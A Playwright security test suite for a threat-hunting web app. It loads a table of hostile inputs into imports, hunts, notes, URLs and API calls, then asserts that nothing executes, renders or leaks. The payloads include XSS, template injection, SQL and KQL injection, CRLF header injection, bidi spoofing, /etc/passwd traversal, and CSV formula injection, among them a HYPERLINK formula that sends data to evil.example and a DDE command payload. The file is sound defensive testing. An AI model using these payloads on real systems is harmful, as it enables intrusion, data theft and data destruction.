import { expect, type Page } from "@playwright/test";
import { parse } from "csv-parse/sync";
import type { FindingPage, FindingSummary } from "../lib/findings/schema";
import { OwnApp, SEED_HUNT } from "./own-app";
import { test } from "./test";

/** Text that would like to be more than text, in every column and field that takes some. */

test.describe.configure({ mode: "serial" });
test.setTimeout(180_000);

const CANARY = "globalThis.hostile = 1";
const HOSTILE: Readonly<Record<string, string>> = {
	script: `<script>${CANARY}</script><x-hostile>`,
	attribute: `"'><img src=x onerror="${CANARY}"><x-hostile>`,
	svg: `<svg onload="${CANARY}"><style>*{display:none}</style><x-hostile></svg>`,
	comment: `--></title></textarea><x-hostile><iframe srcdoc="<script>top.${CANARY}</script>">`,
	template: `{{constructor.constructor('${CANARY}')()}}\${${CANARY}}`,
	scheme: `javascript:${CANARY}`,
	data: `data:text/html,<script>${CANARY}</script>`,
	formula: `=HYPERLINK("https://evil.example/?"&A1,"open")`,
	plus: "+1+cmd|' /C calc'!A0",
	minus: "-2+3",
	at: "@SUM(1+1)",
	tab: "\t=1+1",
	kql: `" | union SecurityEvent | take 1 //`,
	sql: `'; DROP TABLE "Finding"; --`,
	crlf: "a\r\nSet-Cookie: hostile=1\r\n\r\n<x-hostile>",
	bidi: "invoice\u202egpj.exe",
	isolate: "a\u2066b\u2069c\u200bd\ufeffe",
	path: "../../../../etc/passwd",
	proto: "__proto__",
};
/** What CSV cannot carry, for JSON. */
const BEYOND: Readonly<Record<string, string>> = {
	nul: "a\u0000b",
	half: "a\ud800b",
	escape: "\u001b[31mred\u0007",
	long: "M<x-hostile>".repeat(8_000),
};

const COLUMNS = [
	"AccountUpn",
	"ActionType",
	"AppName",
	"DetectionMethods",
	"IPAddress",
	"NetworkMessageId",
	"ReportId",
	"ThreatTypes",
	"Url",
	"UrlChain",
	"Workload",
] as const;

function rowsOf(values: Readonly<Record<string, string>>): Record<string, unknown>[] {
	return Object.values(values).map((value, index) => ({
		TimeGenerated: new Date(Date.now() - (index + 1) * 60_000).toISOString(),
		IsClickedThrough: true,
		...Object.fromEntries(COLUMNS.map((column) => [column, value])),
	}));
}

function csv(rows: readonly Record<string, unknown>[]): string {
	const names = Object.keys(rows[0] ?? {});
	const cell = (value: unknown) => `"${String(value).replaceAll('"', '""')}"`;
	return [names, ...rows.map((row) => names.map((name) => row[name]))]
		.map((line) => line.map(cell).join(","))
		.join("\n");
}

let own: OwnApp;
let findings: FindingSummary[];

test.beforeAll(async ({ request }) => {
	test.setTimeout(400_000);
	own = await OwnApp.start();
	const load = async (fileName: string, body: string, more: string) => {
		const answer = await request.post(
			`${own.url}/api/workspace/imports?table=UrlClickEvents&fileName=${encodeURIComponent(fileName)}${more}`,
			{ data: Buffer.from(body), headers: { "content-type": "application/octet-stream" } },
		);
		expect(answer.status(), await answer.text()).toBe(201);
	};
	await load(`<x-hostile>\u202e${CANARY}.csv`, csv(rowsOf(HOSTILE)), "&replaceSample=1");
	await load("beyond.json", JSON.stringify(rowsOf(BEYOND)), "");
	await own.addHunt(
		"hostile.yaml",
		`${JSON.stringify({
			id: `hostile "<x-hostile>/../?#`,
			name: `${HOSTILE.script}${HOSTILE.bidi}`,
			description: HOSTILE.attribute,
			"description-detailed": HOSTILE.comment,
			version: HOSTILE.formula,
			tactics: [HOSTILE.svg, HOSTILE.bidi],
			relevantTechniques: [HOSTILE.scheme, HOSTILE.script],
			requiredDataConnectors: [{ connectorId: HOSTILE.script, dataTypes: [HOSTILE.sql, HOSTILE.bidi] }],
			query: `UrlClickEvents | where Url == "<x-hostile>" // ${HOSTILE.script}`,
		})}\n`,
	);
	await own.addHunt("<x-hostile>.yaml", `id: ${CANARY}\nname: "${CANARY}\n`);
	const run = await request.post(`${own.url}/api/hunts/${SEED_HUNT}/runs`, { data: { preset: "7d" } });
	const { id } = (await run.json()) as { id: string };
	await expect
		.poll(
			async () =>
				((await (await request.get(`${own.url}/api/runs/${id}`)).json()) as { status: string }).status,
			{
				timeout: 60_000,
			},
		)
		.toBe("succeeded");
	const list = await request.get(`${own.url}/api/findings?limit=200`);
	findings = [...((await list.json()) as FindingPage).items];
});
test.afterAll(() => own?.clear());

/** Nothing of it ran, became an element, or left the server. */
async function expectInert(page: Page): Promise<void> {
	const found = await page.evaluate(() => ({
		ran: (globalThis as { hostile?: number }).hostile ?? null,
		elements: document.querySelectorAll(
			'x-hostile, img[src="x"], iframe, [onerror], [onload], [srcdoc], a[href^="javascript:" i], a[href^="data:" i]',
		).length,
		// An override that is really there would turn what follows it around.
		// biome-ignore lint/performance/useDomNodeTextContent: the data in script elements is not what people see
		overrides: /[\u202a-\u202e\u2066-\u2069]/.test(document.body.innerText),
	}));
	expect(found, page.url()).toEqual({ ran: null, elements: 0, overrides: false });
}

test.beforeEach(async ({ page }) => {
	page.on("dialog", (dialog) => {
		throw new Error(`A dialog: ${dialog.message()}`);
	});
	await page.route(/evil\.example/, (route) => {
		throw new Error(`A request: ${route.request().url()}`);
	});
});

test("every row is imported, hunted and listed", async () => {
	expect(findings).toHaveLength(Object.keys(HOSTILE).length + Object.keys(BEYOND).length);
	expect(findings.map(({ accountUpn }) => accountUpn)).toEqual(
		expect.arrayContaining([HOSTILE.script, HOSTILE.crlf, HOSTILE.bidi, "a\u2400b"]),
	);
});

test("the list and the panel show it as text", async ({ page }) => {
	await page.goto(`${own.url}/findings?status=all`, { waitUntil: "networkidle" });
	await expect(page.getByText("invoice\\u{202e}gpj.exe").first()).toBeVisible();
	await expectInert(page);
	for (const { id } of findings) {
		await page.goto(`${own.url}/findings?status=all&finding=${id}`);
		const panel = page.getByLabel("Open finding");
		await expect(panel.getByRole("tab", { name: "Evidence" })).toBeVisible();
		await expect(panel.getByText("Message id")).toBeVisible();
		await expectInert(page);
		await panel.getByRole("tab", { name: "Raw rows" }).click();
		await expect(panel.locator("pre").first()).toBeVisible();
		await expectInert(page);
	}
});

test("hunts, runs and the workspace show it as text", async ({ page }) => {
	await page.goto(`${own.url}/hunts`);
	await expect(page.getByText("invoice\\u{202e}gpj.exe").first()).toBeVisible();
	await expectInert(page);
	await page.goto(`${own.url}/hunts/${encodeURIComponent('hostile "<x-hostile>/../?#')}`);
	await expect(page.getByRole("button", { name: "Run hunt" })).toBeVisible();
	await expectInert(page);
	await page.getByRole("button", { name: "Run hunt" }).click();
	await expect(page.getByTestId("run")).toHaveAttribute("data-status", /succeeded|failed/, {
		timeout: 60_000,
	});
	await expectInert(page);
	await page.goto(`${own.url}/workspace`);
	await expect(page.getByRole("table", { name: "Tables" })).toContainText("UrlClickEvents");
	await expectInert(page);
});

test("a note is kept word for word and shown as text, in the panel and the audit", async ({
	page,
	request,
}) => {
	const note = Object.values(HOSTILE).join("\n");
	const [finding] = findings as [FindingSummary];
	const decided = await request.post(`${own.url}/api/findings/decisions`, {
		data: { verdict: "triaged", note, ids: [finding.id], versions: { [finding.id]: finding.version } },
	});
	expect(await decided.json()).toMatchObject({ decided: 1 });
	await page.goto(`${own.url}/findings?status=all&finding=${finding.id}`);
	const panel = page.getByLabel("Open finding");
	await panel.getByRole("tab", { name: /Activity/ }).click();
	await expect(panel.getByText("DROP TABLE").first()).toBeVisible();
	await expectInert(page);
	await page.goto(`${own.url}/audit?target=${finding.id}&kind=finding`);
	await page
		.locator("tbody tr[data-id]")
		.first()
		.click({ position: { x: 60, y: 12 } });
	await expect(page.getByRole("dialog", { name: /Row \d+ of the audit/ })).toBeVisible();
	await expectInert(page);
	await page.goto(`${own.url}/audit`);
	await expect(page.locator("tbody tr[data-id]").first()).toBeVisible();
	await expectInert(page);
});

test("addresses and bodies of the API are read as text or refused, never with a fault", async ({
	request,
}) => {
	for (const value of [...Object.values(HOSTILE), BEYOND.nul ?? "", "M".repeat(5_000), "%00", "%", "\\"]) {
		const text = encodeURIComponent(value);
		for (const path of [
			`/api/findings?text=${text}`,
			`/api/findings?user=${text}&threat=${text}&workload=${text}&hunt=${text}`,
			`/api/findings?cursor=${text}`,
			`/api/findings/facets?text=${text}`,
			`/api/findings/users?text=${text}`,
			`/api/findings/${text}`,
			`/api/hunts/${text}`,
			`/api/runs/${text}`,
			`/api/audit?text=${text}`,
			`/api/findings/export?text=${text}`,
		]) {
			const answer = await request.get(`${own.url}${path}`);
			expect(answer.status(), path.slice(0, 200)).toBeLessThan(500);
			expect(answer.headers()["set-cookie"] ?? "").not.toContain("hostile");
		}
		const body = await request.post(`${own.url}/api/findings/decisions`, {
			data: { verdict: value, note: value, ids: [value], versions: { [value]: 1 }, [value]: value },
		});
		expect(body.status()).toBe(422);
	}
});

test("the exports keep it, and no cell is a formula", async ({ request }) => {
	const answer = await request.get(`${own.url}/api/findings/export?format=csv`);
	const rows: Record<string, string>[] = parse(await answer.body(), { columns: true });
	expect(rows).toHaveLength(findings.length);
	for (const row of rows) {
		for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
	}
	const accounts = rows.map((row) => (row.account_upn ?? "").replace(/^'('*[=+\-@\t\r\n])/, "$1"));
	expect(accounts.sort()).toEqual(findings.map(({ accountUpn }) => accountUpn ?? "").sort());
	const json = (await (
		await request.get(`${own.url}/api/findings/export?format=json`)
	).json()) as FindingSummary[];
	expect(json.map(({ accountUpn }) => accountUpn).sort()).toEqual(accounts);
	const audit = await request.get(`${own.url}/api/audit/export?format=csv`);
	for (const row of parse(await audit.body(), { columns: true }) as Record<string, string>[]) {
		for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r\n]/);
	}
});

test("the user filter shows it as text", async ({ page }) => {
	await page.goto(`${own.url}/findings?status=all`, { waitUntil: "networkidle" });
	await page.getByRole("combobox", { name: "User" }).click();
	await expect(page.getByRole("option").first()).toBeVisible();
	await expectInert(page);
});

test("what stands in a page's address is shown as text", async ({ page }) => {
	for (const value of [HOSTILE.script, HOSTILE.attribute, HOSTILE.bidi, HOSTILE.scheme]) {
		const text = encodeURIComponent(value ?? "");
		for (const path of [
			"/findings?status=all&text=",
			"/findings?usr=1&workload=",
			"/audit?text=",
			"/hunts/",
			"/",
		]) {
			await page.goto(`${own.url}${path}${text}`);
			await expect(page.locator("h1").first()).toBeAttached();
			await expectInert(page);
		}
	}
});

test("the log has a line for each of it, and holds none of it", async () => {
	const lines = own.printed.split("\n").filter((line) => line.startsWith("{"));
	expect(lines.length).toBeGreaterThan(100);
	for (const line of lines) expect(() => JSON.parse(line)).not.toThrow();
	expect(own.printed).not.toMatch(/x-hostile|evil\.example|globalThis|DROP TABLE|passwd|\u202e/);
});
